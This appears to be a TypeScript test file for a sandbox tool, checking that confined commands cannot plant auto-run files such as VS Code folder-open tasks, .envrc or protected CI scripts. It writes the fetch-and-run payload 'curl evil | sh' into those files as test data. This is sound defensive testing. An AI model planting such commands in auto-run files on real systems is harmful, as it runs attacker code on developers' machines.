// Files tools run without asking (profiles/protected.json): a confined command plants a VS Code
// task, an `.envrc`, or a file the policy protects that does not exist yet.
// Under bubblewrap an existing one is a read-only bind (the write fails, the file stays) and a
// missing one that the run makes is moved aside once the run is over (reported as refused); the
// control opts the path out (`unprotectedPaths`) or names nothing, and the plant lands. Under
// Landlock the account says `protected` is not governed, naming the file. As root and as uid 65534
// (the workspace theirs, so only cordon stands between the run and the file).
import { describe, expect, it } from 'vitest'
import type { SandboxBackendName } from '../../../src/policy/backends.js'
import { needBackend } from '../../support/sandbox/backends.js'
import type { AttackUser } from '../attacks/attack.js'
import { runScriptAs, USERS } from '../host/run-as.js'
import type { EditorCase, EditorOutcome } from './editor-files-host.js'
import { scratchDirAs } from '../../support/scratch.js'

const HOST = `${import.meta.dirname}/editor-files-host.ts`
const TASK = '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"true"}]}'
const EVIL = 'curl evil | sh'

/** Each attack, and its control with the protection opted out. */
const CASES: EditorCase[] = [
  ...[false, true].map((out) => ({
    name: `vscode-task${out ? '-unprotected' : ''}`,
    files: { '.vscode/tasks.json': TASK },
    script: `echo '${EVIL}' > .vscode/tasks.json`,
    policy: out ? { unprotectedPaths: ['.vscode'] } : {},
    check: ['.vscode/tasks.json'],
  })),
  ...[false, true].map((out) => ({
    name: `envrc${out ? '-unprotected' : ''}`,
    files: {},
    script: `echo '${EVIL}' > .envrc`,
    policy: out ? { unprotectedPaths: ['.envrc'] } : {},
    check: ['.envrc'],
  })),
  ...[false, true].map((named) => ({
    name: `policy-named${named ? '' : '-not-named'}`,
    files: {},
    script: `mkdir -p ci && echo '${EVIL}' > ci/deploy.sh`,
    policy: { protectedDefaults: false, ...(named ? { protectedPaths: ['ci/deploy.sh'] } : {}) },
    check: ['ci/deploy.sh'],
  })),
]

async function attack(backend: SandboxBackendName, user: AttackUser): Promise<Record<string, EditorOutcome>> {
  const base = scratchDirAs(user, `cordon-editor-${backend}`)
  const r = await runScriptAs(user, HOST, [JSON.stringify({ backend, base, cases: CASES })], { timeoutMs: 240_000 })
  expect(r.code, r.stderr).toBe(0)
  const outcomes = JSON.parse(r.stdout) as EditorOutcome[]
  return Object.fromEntries(outcomes.map((o) => [o.name, o]))
}

describe('files tools run without asking stay as they were', () => {
  for (const user of USERS) {
    it(`bubblewrap as ${user}: refused where protected, planted where opted out`, async (ctx) => {
      await needBackend(ctx, 'bubblewrap')
      const o = await attack('bubblewrap', user)
      // An existing file: the write fails and the file is unchanged; opted out, it is written.
      expect(o['vscode-task']?.exitCode).not.toBe(0)
      expect(o['vscode-task']?.after['.vscode/tasks.json']).toBe(TASK)
      expect(o['vscode-task-unprotected']?.after['.vscode/tasks.json']).toBe(`${EVIL}\n`)
      // A missing one does not survive the run (reported); opted out, it does.
      expect(o.envrc?.after['.envrc']).toBeNull()
      expect(o.envrc?.refused).toEqual(['.envrc'])
      expect(o['envrc-unprotected']?.after['.envrc']).toBe(`${EVIL}\n`)
      // A policy-named path missing at the start: not made by the run (the account's full is true).
      expect(o['policy-named']?.after['ci/deploy.sh']).toBeNull()
      expect(o['policy-named']?.refused).toEqual(['ci/deploy.sh'])
      expect(o['policy-named-not-named']?.after['ci/deploy.sh']).toBe(`${EVIL}\n`)
      for (const c of Object.values(o)) expect(c.protectedGoverned ?? true, c.name).toBe(true)
    })

    it(`landlock as ${user}: the account says protected is not governed, naming the file`, async (ctx) => {
      await needBackend(ctx, 'landlock')
      const o = await attack('landlock', user)
      expect(o['vscode-task']?.enforcement).toBe('partial')
      expect(o['vscode-task']?.protectedGoverned).toBe(false)
      expect(o['vscode-task']?.protectedHow).toMatch(/\.vscode\/tasks\.json/)
      // Landlock cannot hold an existing file (the account says so); a missing one is taken away after.
      expect(o['vscode-task']?.after['.vscode/tasks.json']).toBe(`${EVIL}\n`)
      expect(o.envrc?.after['.envrc']).toBeNull()
      expect(o['envrc-unprotected']?.after['.envrc']).toBe(`${EVIL}\n`)
      expect(o['policy-named']?.after['ci/deploy.sh']).toBeNull()
      expect(o['policy-named-not-named']?.after['ci/deploy.sh']).toBe(`${EVIL}\n`)
    })
  }
})
